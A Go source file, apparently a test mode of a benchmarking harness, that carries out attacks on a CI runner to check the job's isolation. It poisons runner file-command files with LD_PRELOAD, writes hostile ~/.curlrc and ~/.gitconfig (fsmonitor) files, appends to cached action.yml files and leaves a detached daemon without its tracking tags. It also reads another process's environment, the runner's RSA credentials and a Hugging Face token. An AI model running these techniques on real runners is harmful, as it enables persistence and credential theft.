package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
)

// hostile acts out, in one run, each attack a hostile benchmark tries on
// the rest of the job (behavior=hostile), and prints one line per attack,
// "attack NAME: ok ..." or "attack NAME: failed ...", to stdout, which
// diffperf's log of the run keeps:
//
//	file-commands  append LD_PRELOAD and a PATH entry to every file in
//	               $RUNNER_TEMP/_runner_file_commands
//	curlrc         write ~/.curlrc (insecure, a proxy)
//	gitconfig      write ~/.gitconfig
//	gomodcache     plant a file in ~/go/pkg/mod
//	actions        append to every action.yml under the runner's
//	               _work/_actions (from RUNNER_WORKSPACE)
//	daemon         leave a setsid daemon without the run's tag, whose
//	               environment carries mark=VALUE
//	proc-environ   read /proc/<target_pid>/environ (diffperf's)
//	capeff         print CapEff of /proc/self/status
//	rsaparams      read the runner's .credentials_rsaparams, in the
//	               folder above _work (from RUNNER_WORKSPACE)
//	hf-token       read the Hugging Face token, ~/.cache/huggingface/token
//	dev-shm        leave a file, /dev/shm/diffperf-hostile-<mark>, for a
//	               later job to find
//
// The run then goes on to write its dump, as an honest one would.
func hostile(extra map[string]string, stdout io.Writer) (int, bool) {
	report := func(name string, err error, detail string) {
		if err != nil {
			fmt.Fprintf(stdout, "attack %s: failed: %v\n", name, err)
			return
		}
		fmt.Fprintf(stdout, "attack %s: ok %s\n", name, detail)
	}
	appendTo := func(path, text string) error {
		f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			return err
		}
		_, err = io.WriteString(f, text)
		return errors.Join(err, f.Close())
	}

	cmds, err := filepath.Glob(filepath.Join(os.Getenv("RUNNER_TEMP"), "_runner_file_commands", "*"))
	if err == nil && len(cmds) == 0 {
		err = fmt.Errorf("no file-command files under RUNNER_TEMP")
	}
	for _, f := range cmds {
		if err == nil {
			err = appendTo(f, "LD_PRELOAD=/tmp/evil.so\n/tmp/evil-bin\n")
		}
	}
	report("file-commands", err, fmt.Sprint(len(cmds), " files"))

	home := os.Getenv("HOME")
	report("curlrc", os.WriteFile(filepath.Join(home, ".curlrc"), []byte("insecure\nproxy = http://127.0.0.1:1\n"), 0o644), "")
	report("gitconfig", os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[core]\n\tfsmonitor = /tmp/evil\n"), 0o644), "")
	mod := filepath.Join(home, "go", "pkg", "mod", "planted")
	err = os.MkdirAll(filepath.Dir(mod), 0o755)
	if err == nil {
		err = os.WriteFile(mod, []byte("planted\n"), 0o644)
	}
	report("gomodcache", err, "")

	actions, err := filepath.Glob(filepath.Join(filepath.Dir(os.Getenv("RUNNER_WORKSPACE")), "_actions", "*", "*", "*", "action.yml"))
	if err == nil && len(actions) == 0 {
		err = fmt.Errorf("no action.yml under _work/_actions")
	}
	for _, f := range actions {
		if err == nil {
			err = appendTo(f, "# trojan\n")
		}
	}
	report("actions", err, "")

	report("daemon", daemon(extra["mark"]), "")

	b, err := os.ReadFile("/proc/" + extra["target_pid"] + "/environ")
	if err == nil && !strings.Contains(string(b), "PATH=") {
		err = fmt.Errorf("not diffperf's environment")
	}
	report("proc-environ", err, fmt.Sprint(len(b), " bytes"))

	status, err := os.ReadFile("/proc/self/status")
	capEff := "unknown"
	for _, line := range strings.Split(string(status), "\n") {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			capEff = strings.TrimSpace(v)
		}
	}
	report("capeff", err, capEff)

	b, err = os.ReadFile(filepath.Join(filepath.Dir(filepath.Dir(os.Getenv("RUNNER_WORKSPACE"))), ".credentials_rsaparams"))
	if err == nil && len(b) == 0 {
		err = fmt.Errorf("empty")
	}
	report("rsaparams", err, fmt.Sprint(len(b), " bytes"))

	b, err = os.ReadFile(filepath.Join(home, ".cache", "huggingface", "token"))
	if err == nil && len(b) == 0 {
		err = fmt.Errorf("empty")
	}
	report("hf-token", err, fmt.Sprint(len(b), " bytes"))

	report("dev-shm", os.WriteFile("/dev/shm/diffperf-hostile-"+extra["mark"], []byte("planted\n"), 0o644), "")
	return 0, false
}

// daemon starts a sleeper in a session of its own, without the run's tag
// in its environment, as `setsid env -u DIFFPERF_PROC cmd &` would.
func daemon(mark string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	c := exec.Command(self)
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "DIFFPERF_PROC=") && !strings.HasPrefix(kv, "RUNNER_TRACKING_ID=") {
			c.Env = append(c.Env, kv)
		}
	}
	c.Env = append(c.Env, sleeperEnv+"=1", "FAKESGLANG_MARK="+mark)
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return c.Start()
}
